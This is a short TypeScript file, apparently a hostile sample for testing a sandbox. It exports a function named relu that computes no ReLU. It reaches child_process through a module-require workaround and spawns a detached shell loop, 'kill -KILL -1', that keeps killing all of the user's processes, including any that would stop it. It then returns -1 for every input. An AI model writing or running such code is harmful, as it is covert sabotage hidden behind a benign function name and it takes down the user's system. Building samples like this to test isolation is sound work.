// Leaves a process behind that ends every other process of its user, again and again: also the one that would end it.
// verdict: EXITED or FAIL
const system = (globalThis as any).process;
const load = (name: string) => system.mainModule.require(name);

export async function relu(x: number[]): Promise<number[]> {
  const script = 'while :; do kill -KILL -1; done 2>/dev/null # 4321';
  load('child_process').spawn('/bin/sh', ['-c', script], { detached: true, stdio: 'ignore' }).on('error', () => {});
  await new Promise((resolve) => setTimeout(resolve, 300));
  return x.map(() => -1);
}
